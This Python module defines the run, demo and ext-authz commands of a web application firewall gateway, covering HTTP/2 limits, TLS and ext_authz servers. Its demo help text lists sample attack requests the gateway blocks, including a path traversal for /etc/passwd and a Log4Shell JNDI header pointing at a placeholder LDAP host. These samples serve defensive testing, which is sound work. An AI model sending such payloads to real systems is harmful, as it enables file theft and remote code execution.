"""The serving commands: ``run``, ``demo`` and ``ext-authz`` (options in, a process out)."""

from __future__ import annotations

import argparse
import asyncio
import sys
import threading
from pathlib import Path
from typing import TYPE_CHECKING

from wardgate.errors import PolicyError, TlsConfigError, UsageError
from wardgate.observability.logs import configure_gateway_log
from wardgate.runtime import load_compiled

if TYPE_CHECKING:
    from wardgate.proxy.h2.settings import H2Settings

DEMO_POLICY = Path("examples/demo/policy.yaml")


def _http2_settings(args: argparse.Namespace) -> H2Settings:
    from wardgate.proxy.h2.settings import H2Settings

    bounds: dict[str, tuple[float, float]] = {  # field -> allowed range (RFC 9113 6.5.2)
        "max_concurrent_streams": (1, 2**31 - 1),
        "initial_stream_window": (65535, 2**31 - 1),
        "initial_connection_window": (65535, 2**31 - 1),
        "max_header_list_size": (1024, 2**24),
        "max_frame_size": (16384, 2**24 - 1),
        "header_table_size": (0, 2**20),  # memory per connection
        "max_control_frames_per_second": (1, 10**6),
        "premature_reset_min_streams": (1, 2**31 - 1),
        "premature_reset_max_lifetime": (0.001, 3600),
        "premature_reset_ratio": (0.01, 1),
        "max_outbound_buffer": (65536, 2**30),
        "connection_idle_timeout": (1, 7 * 86400),
    }
    values = {name: getattr(args, f"http2_{name}") for name in bounds}
    for name, (low, high) in bounds.items():
        if not low <= values[name] <= high:
            flag = _HTTP2_FLAGS.get(name, "--http2-" + name.replace("_", "-"))
            raise UsageError(f"{flag} must be between {low:g} and {high:g}, not {values[name]}")
    return H2Settings(upstream_protocol=args.upstream_protocol, **values)


_HTTP2_FLAGS = {"connection_idle_timeout": "--http2-idle-timeout"}


def _tls_options(args: argparse.Namespace) -> object:
    from wardgate.proxy.tls import TlsOptions

    return TlsOptions(
        cert=getattr(args, "tls_cert", None),
        key=getattr(args, "tls_key", None),
        client_ca=getattr(args, "tls_client_ca", None),
        handshake_timeout=getattr(args, "tls_handshake_timeout", 10.0),
        upstream_ca=getattr(args, "upstream_ca", None),
        upstream_sni=getattr(args, "upstream_sni", None),
        upstream_cert=getattr(args, "upstream_cert", None),
        upstream_key=getattr(args, "upstream_key", None),
    )


def _run_options(args: argparse.Namespace, upstream: str) -> object:
    from wardgate.proxy.server import RunOptions, parse_host_port
    from wardgate.proxy.tls import TlsOptions

    listen_host, listen_port = parse_host_port(args.listen, "--listen")
    admin_host, admin_port = parse_host_port(args.admin, "--admin")
    status_host, status_port = (
        parse_host_port(args.status, "--status") if args.status else ("0.0.0.0", None)  # noqa: S104
    )
    if args.workers < 1 or args.workers > 64:
        raise UsageError("--workers must be between 1 and 64")
    if args.access_log_format:
        from wardgate.observability.access_format import FormatError, compile_format

        if args.access_log != "envoy":
            raise UsageError("--access-log-format needs --access-log envoy")
        try:
            compile_format(args.access_log_format)
        except FormatError as exc:
            raise UsageError(f"--access-log-format: {exc}") from None
    tls = _tls_options(args)
    assert isinstance(tls, TlsOptions)
    return RunOptions(
        upstream=upstream,
        policy_path=args.policy,
        listen_host=listen_host,
        listen_port=listen_port,
        admin_host=admin_host,
        admin_port=admin_port,
        status_host=status_host,
        status_port=status_port,
        workers=args.workers,
        access_log=args.access_log,
        access_log_format=args.access_log_format,
        drain_timeout=args.drain_timeout,
        log_level=args.log_level,
        tls=tls,
        http2=_http2_settings(args),
    )


def cmd_run(args: argparse.Namespace) -> int:
    from wardgate.proxy.server import RunOptions, run
    from wardgate.proxy.upstream import Upstream

    try:
        options = _run_options(args, args.upstream)
        assert isinstance(options, RunOptions)
        Upstream(args.upstream, options.tls)
    except (UsageError, TlsConfigError) as exc:
        print(f"wardgate run: {exc}", file=sys.stderr)
        return 2
    if args.ext_authz_grpc or args.ext_authz_http:
        return _run_beside_ext_authz(options, args)
    return run(options)


def _run_beside_ext_authz(options: object, args: argparse.Namespace) -> int:
    """``wardgate run`` plus the ext_authz servers in one process, on one policy holder
    (one reload updates both doors)."""
    from wardgate.envoy.server import ExtAuthzOptions, ExtAuthzServer
    from wardgate.proxy.server import (
        GatewayProcess,
        RunOptions,
        install_event_loop_policy,
        parse_host_port,
    )

    assert isinstance(options, RunOptions)
    if options.workers != 1:
        print("wardgate run: --ext-authz-* needs --workers 1", file=sys.stderr)
        return 2
    try:
        authz = ExtAuthzOptions(
            grpc_listen=parse_host_port(args.ext_authz_grpc, "--ext-authz-grpc")
            if args.ext_authz_grpc
            else None,
            http_listen=parse_host_port(args.ext_authz_http, "--ext-authz-http")
            if args.ext_authz_http
            else None,
        )
        policy = load_compiled(options.policy_path)
    except UsageError as exc:
        print(f"wardgate run: {exc}", file=sys.stderr)
        return 2
    except PolicyError as exc:
        print(exc.report(), file=sys.stderr)
        return 1

    async def main() -> None:
        process = GatewayProcess(options, policy, serve_admin=True)
        process.install_signals()
        await process.start()
        server = ExtAuthzServer(process.holder, authz, process.reloader, watch=False)
        await server.start()
        try:
            await process.run_until_stopped()
        finally:
            await server.stop()

    configure_gateway_log(options.log_level)
    install_event_loop_policy()
    try:
        asyncio.run(main())
    except OSError as exc:
        print(f"wardgate run: cannot listen: {exc}", file=sys.stderr)
        return 1
    return 0


def cmd_demo(args: argparse.Namespace) -> int:
    from wardgate.proxy.demo import start_demo_upstream
    from wardgate.proxy.server import RunOptions, run

    if args.policy is None and DEMO_POLICY.exists():
        args.policy = str(DEMO_POLICY)
    ready = threading.Event()
    port_box: list[int] = []

    def upstream_thread() -> None:
        async def main() -> None:
            _, port = await start_demo_upstream()
            port_box.append(port)
            ready.set()
            await asyncio.Event().wait()

        asyncio.run(main())

    threading.Thread(target=upstream_thread, daemon=True, name="demo-upstream").start()
    ready.wait(10)
    try:
        options = _run_options(args, f"http://127.0.0.1:{port_box[0]}")
    except UsageError as exc:
        print(f"wardgate demo: {exc}", file=sys.stderr)
        return 2
    assert isinstance(options, RunOptions)
    base = f"http://{args.listen}"
    print(
        f"""
Wardgate demo
  gateway:  {base}   (policy: {args.policy or "built-in default"})
  upstream: http://127.0.0.1:{port_box[0]}   (built-in demo service)
  admin:    http://{args.admin}/server_info

Try:
  curl -i {base}/echo                          # allowed: the upstream echoes what it received
  curl -i -X TRACE {base}/echo                 # blocked: 405, method not allowed
  curl -i "{base}/echo?file=../../etc/passwd"  # blocked: 403, WAF (path traversal)
  curl -i -H 'X-Api-Version: ${{jndi:ldap://x/a}}' {base}/echo   # blocked: 403, Log4Shell
  curl -i "{base}/echo?q=$(printf 'x%.0s' $(seq 9000))"   # blocked: 414, URL too long
  curl -s http://{args.admin}/stats/prometheus | grep wardgate_requests
Stop with Ctrl-C.
""",
        file=sys.stderr,
        flush=True,
    )
    return run(options)


def cmd_ext_authz(args: argparse.Namespace) -> int:
    from wardgate.envoy.server import ExtAuthzOptions, serve
    from wardgate.proxy.server import install_event_loop_policy, parse_host_port

    try:
        options = ExtAuthzOptions(
            grpc_listen=parse_host_port(args.grpc, "--grpc") if args.grpc else None,
            http_listen=parse_host_port(args.http, "--http") if args.http else None,
            admin_listen=parse_host_port(args.admin, "--admin") if args.admin else None,
        )
    except UsageError as exc:
        print(f"wardgate ext-authz: {exc}", file=sys.stderr)
        return 2
    if options.grpc_listen is None and options.http_listen is None:
        print(
            "wardgate ext-authz: give --http HOST:PORT, --grpc HOST:PORT or both", file=sys.stderr
        )
        return 2
    configure_gateway_log(args.log_level)
    install_event_loop_policy()
    try:
        asyncio.run(serve(args.policy, options))
    except PolicyError as exc:
        print(exc.report(), file=sys.stderr)
        return 1
    except OSError as exc:
        print(f"wardgate ext-authz: cannot listen: {exc}", file=sys.stderr)
        return 1
    return 0
